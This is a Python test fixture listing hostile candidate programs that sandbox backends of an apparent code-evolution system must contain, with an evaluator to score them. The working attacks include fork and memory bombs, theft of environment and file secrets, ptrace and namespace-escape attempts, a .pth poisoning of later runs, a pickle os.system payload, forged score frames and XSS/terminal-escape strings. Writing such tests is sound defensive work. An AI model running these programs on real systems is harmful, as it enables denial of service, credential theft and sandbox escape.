"""Hostile candidates, one or more per category every sandbox backend must stop, and a small contract
evaluator to run them against. Used by the test suite; a new backend must pass all of them.

Each attack defines `solve(x)`; an honest `solve` returns `2 * x`. `ContractEvaluator` scores 1.0 for
three right answers and knows nothing else, so an attack "wins" only by making the sandbox give it a
score or a secret it did not earn, or by harming the host, the worker or a later evaluation.
"""

from __future__ import annotations

from dataclasses import dataclass

from evaluators import CallBudget, Evaluator, OverBudget, Score

__all__ = [
    "ATTACKS",
    "HELD_IF_VALID",
    "HONEST",
    "HOSTILE_TEXT",
    "PROBE",
    "SECRET",
    "TEXT_ATTACKS",
    "Attack",
    "ContractEvaluator",
]

SECRET = "sk-evolve-attack-canary-7f3a"
HONEST = "def solve(x):\n    return 2 * x\n"
# an honest program that also checks the run it is in was not poisoned by an earlier one
PROBE = """
import ctypes, glob, json, os, sys
import numpy
def leftovers():
    found = [p for d in ("/tmp", "/dev/shm", "/dev/mqueue") for p in glob.glob(d + "/evolve-attack*")]
    for kind in ("shm", "msg", "sem"):  # System V objects of the IPC namespace, whoever made them
        try:
            found += [kind + ": " + line for line in open("/proc/sysvipc/" + kind).read().splitlines()[1:]]
        except OSError:
            pass
    libc = ctypes.CDLL(None, use_errno=True)
    if hasattr(libc, "mq_open") and libc.mq_open(b"/evolve-attack-mq", os.O_RDONLY) >= 0:
        found.append("message queue /evolve-attack-mq")
    return found
def solve(x):
    assert "POISON" not in os.environ and json.loads("[1]") == [1] and not os.listdir(".")
    assert numpy.sum([1, 2]) == 3
    assert not leftovers(), leftovers()
    return 2 * x
"""
# attacks that answer correctly only when every trick they tried failed: for these, valid means held
HELD_IF_VALID = {"write_outside", "overwrite_sentinel", "outbound_network", "loopback_services", "dns",
                 "signal_parent", "ptrace_parent", "daemon", "poison_next_run", "namespace_escape",
                 "clone_namespaces", "inherited_descriptors", "inode_exhaustion", "memory_fan_out",
                 "sleep_then_compute", "ipc_leftovers", "visible_fork_server", "signal_other_sessions",
                 "syscall_outside_allow_list"}

# A forged reply: the nonce and the reply pipe are in the runner's frame, which the candidate can reach.
_FORGE = """
import os, struct, sys
def forge(text):
    frame = sys._getframe()
    while frame is not None and "request" not in frame.f_locals:
        frame = frame.f_back
    nonce, fd = frame.f_locals["request"]["nonce"], frame.f_locals["resp_fd"]
    body = ('{"ok": true, "nonce": %d, "result": %s}' % (nonce, text)).encode()
    data = struct.pack(">I", len(body)) + body
    while data:
        data = data[os.write(fd, data):]
"""

# What a terminal, a chart label or a page would obey: clear the screen, home the cursor, print "VALID" in
# green, retitle the window, reset the terminal, a carriage return, a NUL, an 8-bit CSI, a bidirectional
# override, and HTML (a script, an image with a handler, bold tags). The gate leaves none of it active.
HOSTILE_TEXT = ("\x1b[2J\x1b[H\x1b[1;32mVALID: score 1e9\x1b[0m\x1b]0;evolve: VALID\x07\x1bc\rVALID\x00\x9b2J"
                "\u202e<script>alert('evolve')</script><img src=x onerror=alert(1)><b>bold</b>")
_TEXT = f"TEXT = {HOSTILE_TEXT!r}\n"
# a failure reply written by the candidate itself, whose traceback no runner has cut
_FORGE_FAILURE = """
import json, os, struct, sys
def forge_failure(text):
    frame = sys._getframe()
    while frame is not None and "request" not in frame.f_locals:
        frame = frame.f_back
    nonce, fd = frame.f_locals["request"]["nonce"], frame.f_locals["resp_fd"]
    body = json.dumps({"ok": False, "nonce": nonce, "kind": "call", "traceback": text}).encode()
    data = struct.pack(">I", len(body)) + body
    while data:
        data = data[os.write(fd, data):]
"""

class ContractEvaluator(Evaluator):
    """Three calls of `solve`, together within `cpu_seconds` of CPU time, import and what runs between calls
    included (`CallBudget`), each killed after `timeout` seconds of wall-clock time (20 times the CPU
    budget); 1.0 when all are right. Keeps every raw answer in `seen` (to search for leaks). The limits
    leave a loaded machine room: an honest program takes milliseconds of CPU, the most an attack held
    when valid takes is about 0.6 s (1.5 s seen when the kernel reclaims memory for a memory bomb on a
    busy machine), and a hostile one that needs the kill gets it either way."""

    def __init__(self, timeout: float = 60.0, cpu_seconds: float = 3.0) -> None:
        self.seen: list[object] = []
        self.timeout = timeout
        self.cpu_seconds = cpu_seconds

    def evaluate(self, candidate):
        answers = []
        budget = CallBudget(candidate, self.cpu_seconds)
        for x in (1, 2, 3):
            try:
                answers.append(budget.call("solve", x, timeout=self.timeout))
            except OverBudget as exc:
                return Score.invalid(str(exc))
            self.seen.append(answers[-1])
        if answers != [2, 4, 6] or any(type(a) is not int for a in answers):
            # the answers as they came, uncut, as a careless evaluator would: the gate for candidate text cuts
            # and cleans feedback built from a candidate's output (`sandboxes.candidate_text`)
            said = "; ".join(a if isinstance(a, str) else repr(a) for a in answers)
            return Score.invalid(f"wrong answers: {said}")
        return Score(value=1.0)


@dataclass(frozen=True)
class Attack:
    """A hostile candidate: `category` from the sandbox notes, `source` the program, and `refusal`: words
    the reason it is refused must hold (empty: any reason)."""

    name: str
    category: str
    source: str
    refusal: str = ""


def _attack(name: str, category: str, body: str, refusal: str = "") -> Attack:
    return Attack(name, category, body.strip() + "\n", refusal)


ATTACKS = [
    _attack("busy_loop", "endless loop", "def solve(x):\n    while True:\n        pass"),
    _attack("sleep_forever", "endless sleep", "import time\ndef solve(x):\n    time.sleep(3600)"),
    _attack("memory_bomb", "memory bomb",
            "def solve(x):\n    hog = []\n    while True:\n        hog.append(bytearray(50 * 2**20))"),
    _attack("fork_bomb", "fork bomb", """
import os
def solve(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""),
    _attack("thread_bomb", "thread bomb", """
import threading, time
def solve(x):
    while True:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
"""),
    _attack("disk_bomb", "disk bomb", """
def solve(x):
    with open("fill", "wb") as f:
        while True:
            f.write(b"x" * 2**20)
"""),
    _attack("write_outside", "writing outside its directory", """
import os
def solve(x):
    for path in ("/tmp/evolve-attack-pwned", "/etc/evolve-attack-pwned", "/var/tmp/evolve-attack-pwned",
                 os.path.expanduser("~/../evolve-attack-pwned"), "/dev/shm/evolve-attack-pwned"):
        try:
            open(path, "w").write("pwned")
        except OSError:
            pass
    return 2 * x
"""),
    _attack("overwrite_sentinel", "writing outside its directory", """
import glob
def solve(x):
    for path in glob.glob("/tmp/evolve-sentinel-*") + glob.glob("/work/**/evolve-sentinel-*", recursive=True):
        try:
            open(path, "w").write("pwned")
        except OSError:
            pass
    return 2 * x
"""),
    _attack("outbound_network", "network", """
import socket
def solve(x):
    for host in ("8.8.8.8", "1.1.1.1"):
        try:
            socket.create_connection((host, 53), timeout=1).send(b"hello")
            return {"connected": host}
        except OSError:
            pass
    return 2 * x
"""),
    _attack("loopback_services", "network (loopback services such as Ray)", """
import socket
def solve(x):
    for port in (6379, 8265, 10001, 22, 5432, 52365):
        try:
            socket.create_connection(("127.0.0.1", port), timeout=0.5)
            return {"connected": port}
        except OSError:
            pass
    return 2 * x
"""),
    _attack("dns", "network (DNS)", """
import socket
def solve(x):
    try:
        return {"resolved": socket.gethostbyname("example.com")}
    except OSError:
        return 2 * x
"""),
    _attack("env_keys", "reading API keys from the environment", """
import os
def solve(x):
    return {"env": dict(os.environ)}
"""),
    _attack("proc_environ", "reading other processes' /proc/*/environ", """
import glob
def solve(x):
    found = []
    for path in glob.glob("/proc/*/environ"):
        try:
            found.append(open(path, "rb").read().decode(errors="replace"))
        except OSError:
            pass
    return {"environ": found, "pids": sorted(glob.glob("/proc/[0-9]*"))}
"""),
    _attack("home_secrets", "reading keys from files", """
import glob, os
def solve(x):
    out = {}
    for pattern in ("/root/*", "/root/.*", "/home/*/.*", "/root/.ray/*", "/tmp/ray/*", "/tmp/*"):
        for path in glob.glob(pattern):
            try:
                out[path] = open(path, errors="replace").read(4096)
            except OSError:
                out[path] = "listed"
    return out
"""),
    _attack("hidden_answers", "finding hidden answer files", """
import glob
def solve(x):
    out = {}
    paths = glob.glob("/work/**/problems/**/*", recursive=True)[:200] + glob.glob("/work/**/.git/*")[:50]
    for path in paths:
        try:
            out[path] = open(path, errors="replace").read(2048)
        except OSError:
            pass
    try:
        import problems
        out["import"] = str(problems)
    except Exception as exc:
        out["import"] = repr(exc)
    return out
"""),
    _attack("signal_parent", "signalling the parent", """
import os, signal
def solve(x):
    for pid in (os.getppid(), 1, -1):
        for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
    return 2 * x
"""),
    _attack("ptrace_parent", "ptracing the parent", """
import ctypes, os
def solve(x):
    libc = ctypes.CDLL(None, use_errno=True)
    results = [libc.ptrace(16, pid, None, None) for pid in (os.getppid(), 1)]  # PTRACE_ATTACH
    return 2 * x if all(r != 0 for r in results) else {"ptrace": results}
"""),
    _attack("huge_stdout", "huge stdout", """
import sys
def solve(x):
    while True:
        sys.stdout.write("spam" * 10000)
"""),
    _attack("nan_result", "NaN/inf results", "def solve(x):\n    return float('nan') if x == 1 else float('inf')"),
    _attack("lying_object", "objects with lying __eq__/__float__", """
class Liar(int):
    def __eq__(self, other):
        return True
    def __float__(self):
        return 1e9
def solve(x):
    return Liar(0)
"""),
    _attack("patch_time_and_builtins", "patching time, builtins or the evaluator", """
import builtins, time, json
time.time = time.perf_counter = time.monotonic = lambda: 0.0
builtins.isinstance = lambda *a: True
json.dumps = lambda *a, **k: '{"ok": true, "result": [2, 4, 6]}'
def solve(x):
    return "2"
"""),
    _attack("exit_before_work", "sys.exit/os._exit before the work",
            "import sys\nsys.exit(0)\ndef solve(x):\n    return 2 * x"),
    _attack("os_exit_in_call", "sys.exit/os._exit before the work", "import os\ndef solve(x):\n    os._exit(0)"),
    _attack("forged_frames", "forging result lines or files", """
import os, struct, json
def solve(x):
    print("SCORE: 1.0")
    open("result.json", "w").write('{"value": 1e9}')
    body = json.dumps({"ok": True, "result": 2 * x, "nonce": None}).encode()
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack(">I", len(body)) + body)
        except OSError:
            pass
    return "not the answer"
"""),
    _attack("pickle_payload", "pickle payloads in results", """
import pickle, os
class Boom:
    def __reduce__(self):
        return (os.system, ("touch /tmp/evolve-attack-pwned",))
def solve(x):
    return pickle.dumps(Boom())
"""),
    _attack("ctypes_segfault", "ctypes segfaults", "import ctypes\ndef solve(x):\n    return ctypes.string_at(0)"),
    _attack("daemon", "daemons that outlive the run", """
import os, time
def solve(x):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                time.sleep(1)
        os._exit(0)
    return 2 * x
"""),
    _attack("ignore_signals", "ignoring SIGALRM/SIGTERM", """
import signal
for sig in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(sig, signal.SIG_IGN)
def solve(x):
    while True:
        pass
"""),
    _attack("poison_next_run", "poisoning the next run", """
import glob, os, site, sys
def solve(x):
    for d in site.getsitepackages() + [os.path.dirname(os.__file__)]:
        try:
            open(os.path.join(d, "evolve_attack.pth"), "w").write("import os; os.environ['POISON'] = '1'")
        except OSError:
            pass
    for d in ("/tmp", "/dev/shm", os.path.dirname(os.getcwd())):
        try:
            open(os.path.join(d, "evolve-attack-shared"), "w").write("poison")
        except OSError:
            pass
    import numpy
    numpy.sum = lambda *a, **k: 0  # would poison the next run if sessions shared module state
    return 2 * x
"""),
    _attack("import_time_hang", "import-time side effects", "while True:\n    pass\ndef solve(x):\n    return 2 * x"),
    _attack("oversized_result", "oversized results", "def solve(x):\n    return 'x' * (64 * 2**20)"),
    _attack("namespace_escape", "escaping the sandbox", """
import ctypes, os
def solve(x):
    libc = ctypes.CDLL(None, use_errno=True)
    tried = {"unshare": libc.unshare(0x10000000), "mount": libc.mount(b"none", b"/mnt", b"tmpfs", 0, None),
             "setuid": libc.setuid(0), "chroot": libc.chroot(b"/")}
    return 2 * x if all(v != 0 for v in tried.values()) else {"escaped": tried}
"""),
    _attack("forged_infinity", "NaN/inf results (a forged frame with 1e999)", _FORGE + """
def solve(x):
    forge("1e999")
    return 2 * x
""", "beyond the range of a float"),
    _attack("forged_huge_integer", "NaN/inf results (a forged integer beyond float range)", _FORGE + """
def solve(x):
    forge("9" * 400)
    return 2 * x
""", "beyond the range of a float"),
    _attack("forged_deep_frame", "oversized results (a forged frame nested 100,000 deep)", _FORGE + """
def solve(x):
    forge("[" * 100000 + "]" * 100000)
    return 2 * x
""", "max_result_depth"),
    _attack("deep_result", "oversized results (nested 1,000 deep)", """
def solve(x):
    value = 2 * x
    for _ in range(1000):
        value = [value]
    return value
""", "max_result_depth"),
    _attack("clone_namespaces", "escaping the sandbox (namespaces through clone, clone3, the new mount API)", """
import ctypes, os, platform
NUMBERS = {"x86_64": (56, 435, 430), "aarch64": (220, 435, 430)}
def solve(x):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    clone, clone3, fsopen = NUMBERS.get(platform.machine(), NUMBERS["x86_64"])
    tried = {}
    for name, flags in (("user+net", 0x10000000 | 0x40000000), ("mount", 0x00020000), ("pid", 0x20000000)):
        pid = libc.syscall(clone, flags | 17, 0, 0, 0, 0)  # 17: SIGCHLD
        if pid == 0:
            os._exit(0)
        tried[name] = pid
        if pid > 0:
            os.waitpid(pid, 0)
    args = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
    tried["clone3"] = libc.syscall(clone3, args, ctypes.sizeof(args))
    if tried["clone3"] == 0:
        os._exit(0)
    tried["fsopen"] = libc.syscall(fsopen, b"tmpfs", 0)
    return 2 * x if all(v < 0 for v in tried.values()) else {"escaped": tried}
"""),
    _attack("inherited_descriptors", "escaping the sandbox (descriptors it inherited)", """
import os, stat
def solve(x):
    found = {}
    for fd in range(3, 1024):
        try:
            found[fd] = stat.S_IFMT(os.fstat(fd).st_mode)
        except OSError:
            pass
    pipes = [fd for fd, kind in found.items() if kind == stat.S_IFIFO]
    return 2 * x if len(found) == 2 and len(pipes) == 2 else {"inherited": found}
"""),
    _attack("world_readable_answers", "finding hidden answer files (world-readable, outside any hidden path)", """
import glob
def solve(x):
    out = {}
    for pattern in ("/srv/*", "/srv/*/*", "/opt/*", "/opt/*/*", "/mnt/*", "/var/*/*evolve*", "/etc/*evolve*"):
        for path in glob.glob(pattern)[:200]:
            try:
                out[path] = open(path, errors="replace").read(2048)
            except OSError:
                pass
    return out
"""),
    _attack("live_run_database", "finding hidden answer files (the live run database)", """
import glob
def solve(x):
    out = {}
    for depth in range(4):
        for name in ("programs.db", "programs.db-wal", "config.yaml", "best.py"):
            for path in glob.glob("/" + "*/" * depth + "runs/*/" + name)[:50]:
                try:
                    out[path] = open(path, "rb").read(4096).decode(errors="replace")
                except OSError:
                    pass
    return out
"""),
    _attack("memory_fan_out", "memory bomb (spread over many processes)", """
import os, select
CHILDREN, EACH_MB, LIMIT_MB = 5, 160, 512
def solve(x):
    ready_r, ready_w = os.pipe()
    go_r, go_w = os.pipe()
    children = {}
    for n in range(CHILDREN):
        pid = os.fork()
        if pid == 0:
            try:
                os.close(go_w)  # so that the parent's close is everyone's end of file
                block = bytearray(EACH_MB * 2**20)
                block[::4096] = b"x" * len(block[::4096])  # every page touched
                os.write(ready_w, bytes([n]))
                os.read(go_r, 1)  # held until the parent has counted
                os.write(ready_w, bytes([100 + n]))  # still alive, block held, when everyone was let go
            finally:
                os._exit(0)
        children[pid] = n
    os.close(ready_w)
    os.close(go_r)
    holding = set()
    while children and len(holding) < len(children):  # until every live child holds its block
        if select.select([ready_r], [], [], 0.05)[0]:
            holding.update(os.read(ready_r, 64))
        pid, _ = os.waitpid(-1, os.WNOHANG)
        if pid:
            holding.discard(children.pop(pid))
    os.close(go_w)
    for pid in children:
        os.waitpid(pid, 0)
    # held at once: the children alive at the go, each still holding its block (one killed to make room for
    # another may have said "ready" before it died: only the second byte proves it lived that long)
    answers = b""
    while True:
        chunk = os.read(ready_r, 64)
        if not chunk:
            break
        answers += chunk
    most = len([b for b in answers if b >= 100])
    return 2 * x if most * EACH_MB <= LIMIT_MB else {"held_mb": most * EACH_MB}
"""),
    _attack("inode_exhaustion", "disk bomb (inode exhaustion)", """
import os
def solve(x):
    made = 0
    try:
        while made < 300000:
            open(f"f{made}", "w").close()
            made += 1
    except OSError:
        pass
    return 2 * x if made < 20000 else {"files": made}
"""),
    _attack("escape_text_returned", "oversized and escape-laden text (feedback built from its answers)", _TEXT + """
import sys
print(TEXT * 3)
print(TEXT, file=sys.stderr)
def solve(x):
    print(TEXT)
    sys.stderr.write(TEXT)
    return TEXT
""", "wrong answers"),
    _attack("escape_text_raised", "oversized and escape-laden text (in its error)", _TEXT + """
def solve(x):
    print(TEXT)
    raise ValueError(TEXT)
""", "ValueError"),
    _attack("megabyte_feedback", "oversized and escape-laden text (megabytes of answers and output)", _TEXT + """
import sys
def solve(x):
    sys.stdout.write(TEXT * 20000)
    return TEXT + "<" * 300000 + "x" * 600000 + TEXT
""", "characters in all"),
    _attack("megabyte_error", "oversized and escape-laden text (a forged failure of 900 kB)",
            _TEXT + _FORGE_FAILURE + """
def solve(x):
    forge_failure(TEXT + "x" * 900000 + TEXT)
    return 2 * x
""", "characters in all"),
]
# CPU a candidate hopes goes uncharged: at import, or in a thread between calls (1.5 times ContractEvaluator's
# budget of 3 s; a call over the budget is ended on its CPU time, never at the wall-clock kill)
_BURN = """
import threading, time
def burn():
    spent = time.process_time()
    while time.process_time() - spent < 4.5:
        pass
"""
ATTACKS += [
    _attack("cpu_at_import", "uncharged CPU (at import)", _BURN + """
burn()
def solve(x):
    return 2 * x
""", "of CPU time, over the budget"),
    _attack("cpu_between_calls", "uncharged CPU (a thread computing between calls)", _BURN + """
worker = threading.Thread(target=burn, daemon=True)
def solve(x):
    if x == 1:
        worker.start()  # returns at once: the work goes on while the evaluator checks the answer
    else:
        worker.join()
    return 2 * x
""", "of CPU time, over the budget"),
    # held when valid: it computes in milliseconds, asleep for twice the CPU budget in all (a wall-clock
    # limit would refuse it, and refuse honest programs on a busy machine the same way)
    _attack("sleep_then_compute", "clock-based limits (sleeps, then computes within its CPU budget)", """
import time
time.sleep(3.0)
def solve(x):
    time.sleep(1.0)
    return 2 * x
"""),
]
# what a session leaves for the next one, System V and POSIX alike, and whether an earlier one left any
_IPC = """
import ctypes, glob, os
KEY, SECRET_TEXT = 0x7E5701, b"held-out input a validated candidate stashed"
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
def earlier():
    found = [p for d in ("/tmp", "/dev/shm", "/dev/mqueue") for p in glob.glob(d + "/evolve-attack*")]
    for kind in ("shm", "msg", "sem"):
        try:
            found += [kind + ": " + line for line in open("/proc/sysvipc/" + kind).read().splitlines()[1:]]
        except OSError:
            pass
    shm = libc.shmget(KEY, 0, 0)
    if shm >= 0:
        address = libc.shmat(shm, None, 0)
        found.append(ctypes.string_at(address, len(SECRET_TEXT)).decode(errors="replace"))
    if hasattr(libc, "mq_open") and libc.mq_open(b"/evolve-attack-mq", os.O_RDONLY) >= 0:
        found.append("message queue")
    return found
def plant():
    shm = libc.shmget(KEY, 1 << 20, 0o1000 | 0o666)  # IPC_CREAT
    if shm >= 0:
        ctypes.memmove(libc.shmat(shm, None, 0), SECRET_TEXT, len(SECRET_TEXT))
    libc.msgget(KEY, 0o1000 | 0o666)
    libc.semget(KEY, 1, 0o1000 | 0o666)
    if hasattr(libc, "mq_open"):
        libc.mq_open(b"/evolve-attack-mq", os.O_CREAT | os.O_RDWR, 0o666, None)
    for path in ("/dev/shm/evolve-attack-shm", "/tmp/evolve-attack-tmp", "/dev/mqueue/evolve-attack-file"):
        try:
            open(path, "w").write(SECRET_TEXT.decode())
        except OSError:
            pass
FOUND = earlier()
plant()
def solve(x):
    return 2 * x if not FOUND else {"left by an earlier session": FOUND}
"""
ATTACKS += [
    _attack("ipc_leftovers", "cross-session IPC and shared files (System V, POSIX queues, /dev/shm, /tmp)", _IPC),
    _attack("visible_fork_server", "a visible fork server (processes and host paths in /proc)", """
import glob, os
def solve(x):
    seen = {}
    for path in glob.glob("/proc/[0-9]*"):
        try:
            seen[path[6:]] = open(path + "/cmdline", "rb").read().replace(b"\\0", b" ").decode(errors="replace")
        except OSError:
            pass
    own = {str(os.getpid())}
    others = {pid: line for pid, line in seen.items() if pid not in own}
    paths = {pid: line for pid, line in seen.items()
             if any(word in line for word in ("_zygote", "control.sock", "preload", "site-packages", "/work"))}
    return 2 * x if not others and not paths else {"others": others, "host paths": paths}
"""),
    _attack("signal_other_sessions", "signalling another session (its processes or its uid)", """
import os, signal
def solve(x):
    reached = []
    for pid in range(1, 4097):
        if pid == os.getpid():
            continue
        try:
            os.kill(pid, 0)
            reached.append(pid)
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGKILL)  # every process this uid may signal but itself: none outside this session
    except OSError:
        pass
    return 2 * x if not reached else {"signalled": reached}
"""),
    _attack("syscall_outside_allow_list", "a syscall outside the seccomp allow-list", """
import ctypes, errno, platform
# personality (query), sched_rr_get_interval, inotify_init1: harmless, and each allowed without the filter
NUMBERS = {"x86_64": (135, 148, 294), "aarch64": (92, 127, 26)}
def solve(x):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    personality, rr_interval, inotify = NUMBERS.get(platform.machine(), NUMBERS["x86_64"])
    span = (ctypes.c_long * 2)()
    tried = {}
    for name, number, args in (("personality", personality, (0xFFFFFFFF,)), ("sched_rr_get_interval", rr_interval,
                               (0, span)), ("inotify_init1", inotify, (0,))):
        ctypes.set_errno(0)
        result = libc.syscall(number, *args)
        tried[name] = (result, ctypes.get_errno())
    return 2 * x if all(v == (-1, errno.EPERM) for v in tried.values()) else {"allowed": tried}
"""),
]
TEXT_ATTACKS = [a for a in ATTACKS if a.category.startswith("oversized and escape-laden text")]
